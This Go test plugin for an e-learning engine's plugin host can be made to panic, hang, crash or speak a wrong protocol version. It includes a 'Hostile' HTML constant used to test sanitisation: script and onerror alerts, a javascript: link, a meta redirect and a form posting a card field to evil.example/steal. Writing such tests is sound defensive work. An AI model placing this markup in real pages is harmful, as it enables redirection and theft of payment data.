// Command testplugin is a content type that exists to test the SDK and the
// engine's plugin host over a real process: its events make it answer,
// refuse, panic, hang or die on request, and TESTPLUGIN_PROTOCOL=N makes it
// speak another protocol version and TESTPLUGIN_HTML=hostile makes it
// return HTML that tries to break out of its container, and
// TESTPLUGIN_VOLATILE=1 makes it say its renders vary (VolatileRender).
package main

import (
	"context"
	"encoding/json"
	"os"
	"strconv"
	"strings"
	"time"

	goplugin "github.com/hashicorp/go-plugin"

	"github.com/lode-elearning/lode/sdk"
	"github.com/lode-elearning/lode/sdk/plugin"
	"github.com/lode-elearning/lode/sdk/pluginclient"
)

type echo struct{}

var _ sdk.ContentType = echo{}

func (echo) Describe(context.Context) (*sdk.Description, error) {
	name := os.Getenv("TESTPLUGIN_NAME")
	if name == "" {
		name = "echo"
	}
	return &sdk.Description{
		Name: name, Title: "Echo", Version: "0.1.0", ProtocolVersion: sdk.ProtocolVersion,
		ConfigSchema: json.RawMessage(`{"type":"object"}`), ActivityType: sdk.ActivityInteraction,
		Capabilities: sdk.Capabilities{Completable: true, KeepsState: true},
		Profiles:     []string{"https://example.org/profiles/echo"},
		Assets:       []sdk.AssetInfo{{Name: "echo.css", ContentType: "text/css"}, {Name: "big.bin", ContentType: "application/octet-stream"}},
		// TESTPLUGIN_VOLATILE=1: as a content type whose Render reads the clock.
		VolatileRender: os.Getenv("TESTPLUGIN_VOLATILE") == "1",
	}, nil
}

func (echo) Validate(_ context.Context, req *sdk.ValidateRequest) (*sdk.ValidateResponse, error) {
	var cfg map[string]any
	if err := json.Unmarshal(req.Config, &cfg); err != nil {
		return &sdk.ValidateResponse{Problems: []sdk.Problem{{Pointer: "", Message: err.Error()}}}, nil
	}
	if _, ok := cfg["bad"]; ok {
		return &sdk.ValidateResponse{Problems: []sdk.Problem{{Pointer: "/bad", Message: "bad is not allowed"}}}, nil
	}
	return &sdk.ValidateResponse{}, nil
}

// Hostile is the HTML the plugin returns when TESTPLUGIN_HTML=hostile: a
// fragment that tries to leave its container and take over the page.
const Hostile = `<p id="inside">inside</p></div></section></main></body>` +
	`<p id="escaped">escaped</p><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
	`<script>alert(1)</script><style>body{display:none}</style>` +
	`<form id="steal" action="https://evil.example/steal" method="post"><input name="card"></form>` +
	`<img id="img" src="x.png" onerror="alert(2)"><a id="js" href="javascript:alert(3)">x</a><div><p id="open">unclosed`

func (echo) Render(_ context.Context, req *sdk.RenderRequest) (*sdk.RenderResponse, error) {
	if os.Getenv("TESTPLUGIN_HTML") == "hostile" {
		return &sdk.RenderResponse{HTML: Hostile}, nil
	}
	return &sdk.RenderResponse{
		HTML:        `<p>` + req.Object.Title + `: ` + string(req.State) + `</p><form data-lode-event="ping"><button>Ping</button></form>`,
		Assets:      []string{"echo.css"},
		ClientState: req.State,
	}, nil
}

// Handle does what the event type says: "panic", "invalid", "crash" (exit
// the process), "hang" (until the call's deadline), "look" (change
// nothing); anything else counts.
func (echo) Handle(ctx context.Context, req *sdk.HandleRequest) (*sdk.HandleResponse, error) {
	switch req.Event.Type {
	case "look":
		return &sdk.HandleResponse{}, nil
	case "panic":
		panic("asked to panic")
	case "invalid":
		return nil, sdk.Invalidf("event data %s is not acceptable", req.Event.Data)
	case "crash":
		os.Exit(3)
	case "hang":
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-time.After(time.Minute):
		}
	}
	var st struct{ Count int }
	_ = json.Unmarshal(req.State, &st)
	st.Count++
	state, _ := json.Marshal(st)
	return &sdk.HandleResponse{
		State:        state,
		Result:       &sdk.Result{Completion: sdk.Bool(true), Score: &sdk.Score{Raw: 1, Max: 1, Scaled: 1}},
		FeedbackHTML: feedback(),
		Statements: []sdk.StatementDraft{
			{Verb: sdk.VerbInteracted, Activity: &sdk.Activity{IDSuffix: "/ping", Definition: json.RawMessage(`{"type":"` + sdk.ActivityInteraction + `"}`)},
				Result: &sdk.Result{Response: string(req.Event.Data)}, ContextExtensions: json.RawMessage(`{"https://example.org/session":"` + req.SessionID + `"}`)},
			{Verb: sdk.VerbCompleted, Result: &sdk.Result{Completion: sdk.Bool(true)}},
		},
	}, nil
}

func (echo) Asset(_ context.Context, name string) (*sdk.Asset, error) {
	switch name {
	case "echo.css":
		return &sdk.Asset{Name: name, ContentType: "text/css", Data: []byte(".echo{color:#000}")}, nil
	case "big.bin": // larger than gRPC's default 4 MiB limit
		return &sdk.Asset{Name: name, ContentType: "application/octet-stream", Data: []byte(strings.Repeat("x", 6<<20))}, nil
	}
	return nil, sdk.Invalidf("no asset %q", name)
}

func main() {
	if v := os.Getenv("TESTPLUGIN_PROTOCOL"); v != "" {
		serveProtocol(v)
		return
	}
	plugin.Serve(echo{})
}

// serveProtocol speaks only content-type protocol version v, as a plugin
// built with another SDK would, to test that the engine refuses it.
func serveProtocol(v string) {
	n, err := strconv.Atoi(v)
	if err != nil {
		panic(err)
	}
	goplugin.Serve(&goplugin.ServeConfig{
		HandshakeConfig:  pluginclient.Handshake,
		VersionedPlugins: map[int]goplugin.PluginSet{n: {pluginclient.PluginName: &pluginclient.GRPCPlugin{Impl: echo{}}}},
		GRPCServer:       goplugin.DefaultGRPCServer,
	})
}

func feedback() string {
	if os.Getenv("TESTPLUGIN_HTML") == "hostile" {
		return Hostile
	}
	return "<p>pong</p>"
}
